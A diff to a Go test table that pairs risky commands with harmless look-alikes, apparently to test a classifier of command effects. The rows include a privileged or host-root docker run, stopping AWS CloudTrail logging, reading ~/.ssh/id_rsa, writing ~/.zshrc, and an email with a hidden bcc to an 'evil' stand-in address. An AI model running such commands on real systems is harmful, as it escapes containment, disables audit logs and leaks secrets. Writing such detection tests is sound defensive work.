@@ -63,6 +63,9 @@ func TestEveryEffectKindHasACallThatCausesItAndALookAlikeThatDoesNot(t *testing.
 		{EffectPublish, `gh repo edit --visibility public`, `gh repo edit --visibility private`, "publish existing"},
 		{EffectPublish, `gh repo create x --public`, `gh repo create x --private`, "publish new"},
 		{EffectMessage, `mcp send_email {"to":"a@x.example","bcc":"eve@evil.example"}`, `mcp send_email {"to":"a@x.example","cc":"b@x.example"}`, "message hidden"},
+		{EffectContainer, `docker run --privileged alpine`, `docker run --rm alpine`, "container privileged"},
+		{EffectContainer, `docker run -v /:/h alpine`, `docker run -v ./src:/src alpine`, "container host-root"},
+		{EffectCloud, `aws cloudtrail stop-logging --name t`, `aws cloudtrail get-trail-status --name t`, "cloud audit-off"},
 		{EffectOpen, `column ~/.ssh/id_rsa`, `column ssh/id_rsa.md`, "open path=~/.ssh/id_rsa secret"},
 		{EffectOpen, `msgcat -o ~/.zshrc x.po`, `msgcat -o out.po x.po`, "open path=~/.zshrc persist-location"},
 	}
